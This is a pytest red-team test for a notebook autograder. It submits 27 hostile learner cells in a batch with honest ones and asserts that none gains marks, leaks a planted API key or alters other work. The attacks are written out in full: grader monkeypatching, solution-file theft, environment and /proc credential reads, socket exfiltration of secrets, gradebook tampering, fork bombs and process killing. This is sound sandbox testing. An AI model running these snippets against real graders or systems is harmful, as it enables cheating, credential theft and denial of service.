"""Red team: hostile submissions graded in one batch with honest learners, through the real ``autograde``.

Every attack is written as a learner would write it (in an answer cell or a cell of their own). For each we
assert its outcome (its score, and where it matters a report line), that the honest learners graded in the
same batch keep their exact scores, and that a planted secret — in the grader's environment, in a ``.env``,
in the trainer's home and in the course folder — appears nowhere afterwards: not in any file the run wrote,
not in the run's report, not at a listener on 127.0.0.1.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import threading
from pathlib import Path

import pytest

from aidojo.course import Limits, autograde, generate_feedback
from aidojo.course.layout import CourseLayout
from aidojo.course.simulate import learner_notebook
from tests.conftest import REPO, require

SECRET = "sk-proj-PLANTEDsecretDoNotLeak0123456789abcdefXYZ"
HELDBACK_PROBE = "児童手当の申請はどこでできますか"  # an input of a held-back case of m04.q1 (grader/heldback/m04.py)


class Listener:
    """A TCP listener on 127.0.0.1 that records everything anyone sends it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.connections = 0
        self._stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.settimeout(1)
            try:
                self.received.append(conn.recv(65536))
            except OSError:
                pass
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self.thread.join(2)
        self.sock.close()


def _with_cell(nb: dict, source: str, *, after: str = "m04-q1-answer", replace: bool = False) -> dict:
    """The learner's notebook with ``source`` in a cell of their own after ``after`` (or replacing it)."""
    nb = json.loads(json.dumps(nb))
    for i, cell in enumerate(nb["cells"]):
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == after:
            if replace:
                cell["source"] = source
            else:
                nb["cells"].insert(i + 1, {"cell_type": "code", "id": f"own-{i}", "metadata": {}, "source": source,
                                           "outputs": [], "execution_count": None})
            return nb
    raise AssertionError(after)


def _edit_meta(nb: dict, gid: str, **changes) -> dict:
    nb = json.loads(json.dumps(nb))
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == gid:
            cell["metadata"]["nbgrader"].update(changes)
    return nb


def attacks(port: int, course: Path, untouched: dict, right: dict) -> dict[str, tuple[dict, float | str]]:
    """staff id → (notebook, expected score; "partial" = less than full but the honest part kept)."""
    forge = ('import os, json\nline = json.dumps({"type": "obs", "qid": "m04.q5", "case": "h1", '
             '"obs": {"value": {"type": "float", "value": 1.0}}})\n'
             'for fd in range(3, 256):\n    try:\n        os.write(fd, (line + "\\n").encode())\n    except OSError:\n        pass')
    return {
        # full marks in one line, as reported in the issue
        "r01": (_with_cell(untouched, "require = lambda *a, **k: None"), 0),
        "r02": (_with_cell(untouched, "def _blank(lines):\n    return [] if any('require(' in l for l in lines) else lines\n"
                                      "get_ipython().input_transformers_cleanup.append(_blank)"), 0),
        "r03": (_with_cell(untouched, "import aidojo.checks.registry as r, aidojo.checks.judging as j\n"
                                      "from aidojo.checks.result import CheckResult\n"
                                      "r.evaluate = lambda *a, **k: CheckResult(True)\n"
                                      "j.judge_code = lambda *a, **k: CheckResult(True)"), 0),
        "r04": (_with_cell(untouched, "import json, glob\n"
                                      "for p in ['../../../source/m04/m04_kadai.ipynb', '../solutions/m04/m04_kadai.ipynb',\n"
                                      f"          '{REPO}/solutions/m04/m04_kadai.ipynb'] + glob.glob('/**/m04_kadai.ipynb', recursive=True):\n"
                                      "    try:\n        nb = json.load(open(p))\n    except Exception:\n        continue\n"
                                      "    for c in nb['cells']:\n        if 'BEGIN SOLUTION' in ''.join(c['source']):\n"
                                      "            exec(''.join(c['source']))"), 0),
        # reading the trainer's secrets and sending them out
        "r05": (_with_cell(untouched, "import os\nprint(os.environ)\nprint(open(os.path.expanduser('~/.env')).read())"), 0),
        "r06": (_with_cell(untouched, f"import os, socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
                                      "s.sendall(repr(dict(os.environ)).encode())"), 0),
        "r07": (_with_cell(untouched, "import os\nfor pid in os.listdir('/proc'):\n    try:\n"
                                      "        print(pid, open(f'/proc/{pid}/environ').read())\n    except Exception as e:\n"
                                      "        print(pid, e)\nprint(open(f'/proc/{os.getppid()}/environ').read())"), 0),
        # touching other learners' work and the gradebook
        "r08": (_with_cell(untouched, "import glob, json\n"
                                      f"targets = glob.glob('{course}/submitted/*/m04/*.ipynb') + glob.glob('../*/m04/*.ipynb')\n"
                                      "for t in targets:\n    open(t, 'w').write('{}')"), 0),
        "r09": (_with_cell(untouched, "import sqlite3\n"
                                      f"con = sqlite3.connect('{course}/gradebook.db')\n"
                                      "con.execute('update grade set manual_score = 100')\ncon.commit()"), 0),
        "r10": (_with_cell(untouched, "import os\nfor p in ['/tmp/aidojo-pwned', os.path.expanduser('~/pwned'),\n"
                                      f"          '{course}/pwned', '{REPO}/pwned', '/work/pwned']:\n"
                                      "    try:\n        open(p, 'w').write('x')\n    except OSError as e:\n        print(e)"), 0),
        # resources: processes, memory, output, time
        "r11": (_with_cell(untouched, "import os, time\nkids = 0\nfor _ in range(400):\n    try:\n        if os.fork() == 0:\n"
                                      "            time.sleep(30)\n            os._exit(0)\n        kids += 1\n"
                                      "    except OSError:\n        break\nprint('forked', kids)"), 0),
        "r12": (_with_cell(untouched, "import socket\nfor fam, kind in [(socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)]:\n"
                                      "    try:\n        socket.socket(fam, kind, 0)\n        print('raw socket!')\n    except Exception as e:\n"
                                      "        print(e)\ntry:\n    socket.create_connection(('93.184.216.34', 80), timeout=2)\n"
                                      "except Exception as e:\n    print(e)"), 0),
        "r13": (_with_cell(right, "import ctypes, signal\nctypes.CDLL(None).kill(-1, signal.SIGKILL)", after="m04-q5-answer"), 0),
        "r14": (_with_cell(untouched, "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass"), 0),
        "r15": (_with_cell(untouched, f"import atexit, os\natexit.register(lambda: open('{course}/atexit', 'w').write(os.environ.get('OPENAI_API_KEY', '')))"), 0),
        "r16": (_with_cell(untouched, "import glob\nfor p in glob.glob('*.ipynb') + glob.glob('../**/*.ipynb', recursive=True):\n"
                                      "    open(p, 'w').write('{}')"), 0),
        "r17": (_with_cell(untouched, "import subprocess\nsubprocess.Popen(['sleep', '4242'], start_new_session=True)"), 0),
        "r18": (_with_cell(right, "print('あ' * 100_000_000)", after="m04-q5-answer"), 13),
        "r19": (_with_cell(untouched, forge), 0),
        "r20": (_with_cell(_edit_meta(untouched, "m04-q1-answer", grade=True, points=100), "pass"), 0),
        "r21": (_with_cell(untouched, "import aidojo.checks.observe as o\nfrom aidojo.checks.spec import Observation\n"
                                      "o.observe_case = lambda q, v, c, **k: Observation(value={'type': 'float', 'value': 0.9})"), 0),
        "r22": (_with_cell(untouched, "import glob\nprint(glob.glob('/**/heldback/*.py', recursive=True))\n"
                                      f"print(open('{REPO}/grader/heldback/m04.py').read())"), 0),
        "r23": (_with_cell(untouched, "x = bytearray(8 * 1024 ** 3)"), 0),
        "r24": (_with_cell(untouched, "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"), 0),
        # spies on held-back inputs: store what the functions are called with and print it later
        "r25": (_with_cell(_with_cell(right, "SEEN = []\n_orig = build_messages\n"
                                             "def build_messages(system, question):\n    SEEN.append(question)\n    return _orig(system, question)"),
                           "print('SEEN', SEEN)", after="m04-q5-answer"), 13),
        # the test cells themselves
        "r26": (_with_cell(untouched, 'print("ok")', after="m04-q1-test", replace=True), 0),
        "r27": (_edit_meta(untouched, "m04-q1-test", points=999, grade_id="m04-q1-test"), 0),
    }


@pytest.mark.slow
def test_hostile_submissions_cannot_raise_scores_leak_or_touch_others(tmp_path, monkeypatch):
    require(shutil.which("bwrap") is not None, "bubblewrap (Debian package bubblewrap) is not installed")
    home = tmp_path / "home"
    home.mkdir()
    (home / ".env").write_text(f"OPENAI_API_KEY={SECRET}\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("AIDOJO_PROVIDER", "openai")
    monkeypatch.setenv("AIDOJO_API_TOKEN", SECRET)
    course = tmp_path / "course"
    layout = CourseLayout(data_dir=course)
    (course).mkdir()
    (course / "secret.txt").write_text(SECRET)
    listener = Listener()
    untouched = learner_notebook("m04", "m04_kadai", "untouched", layout=layout)
    right = learner_notebook("m04", "m04_kadai", "right", layout=layout)
    partial = learner_notebook("m04", "m04_kadai", "partial", layout=layout)
    batch = {"h01": (right, 13), "h02": (partial, "partial"), **attacks(listener.port, course, untouched, right),
             "h03": (right, 13)}
    for sid, (nb, _) in batch.items():
        folder = layout.submitted_dir / sid / "m04"
        folder.mkdir(parents=True)
        (folder / "m04_kadai.ipynb").write_text(json.dumps(nb, ensure_ascii=False), encoding="utf-8")
        (folder / "timestamp.txt").write_text("2026-11-30 10:00:00.000000 UTC")
    limits = Limits(cell_seconds=4, case_seconds=4, submission_seconds=25)
    try:
        report = autograde(["m04"], layout=layout, workers=2, limits=limits, progress=False)
        feedback = generate_feedback(["m04"], layout=layout)
    finally:
        listener.close()
    text = report.text()
    print(text)
    scores = {sid: g.score for (sid, _), g in report.results.items()}
    partial_score = scores["h02"]
    assert 0 < partial_score < 13, text
    for sid, (_, expected) in batch.items():
        if expected == "partial":
            continue
        assert scores[sid] == expected, f"{sid}: {scores[sid]} != {expected}\n{text}"
    from nbgrader.api import Gradebook

    with Gradebook(layout.db_url, course_id="aidojo") as gb:  # the gradebook says the same, manual scores untouched
        for sid, expected in scores.items():
            sub = gb.find_submission("m04", sid)
            assert float(sub.score) == expected, sid
            assert all(g.manual_score is None for nb in sub.notebooks for g in nb.grades), sid
    # nobody touched another learner's submission, and nothing was written outside the sandbox
    for sid, (nb, _) in batch.items():
        stored = json.loads((layout.submitted_dir / sid / "m04" / "m04_kadai.ipynb").read_text(encoding="utf-8"))
        assert stored == json.loads(json.dumps(nb, ensure_ascii=False)), sid
    for path in ("/tmp/aidojo-pwned", home / "pwned", course / "pwned", REPO / "pwned", course / "atexit"):
        assert not Path(path).exists(), path
    # the secret: no listener heard anything, and no file or report holds it
    assert listener.connections == 0 and not listener.received
    assert SECRET not in text
    leaks = [p for p in course.rglob("*") if p.is_file() and p.name != "secret.txt" and SECRET.encode() in p.read_bytes()]
    assert not leaks, leaks
    # held-back inputs never reach a learner's eyes (autograded notebooks and feedback pages)
    for page in list(feedback.files) + list(layout.autograded_dir.rglob("*.ipynb")):
        assert HELDBACK_PROBE not in page.read_text(encoding="utf-8"), page
    # output was capped, processes were limited, the session child is gone
    assert (layout.autograded_dir / "r18" / "m04" / "m04_kadai.ipynb").stat().st_size < 2_000_000
    assert "4242" not in " ".join(Path(f"/proc/{p}/cmdline").read_text(errors="replace")
                                  for p in os.listdir("/proc") if p.isdigit() and Path(f"/proc/{p}/cmdline").exists())
    assert report.find(code="test_edited", staff_id="r26") and report.find(code="cell_timeout", staff_id="r14") or \
        report.find(code="run_timeout", staff_id="r14"), text
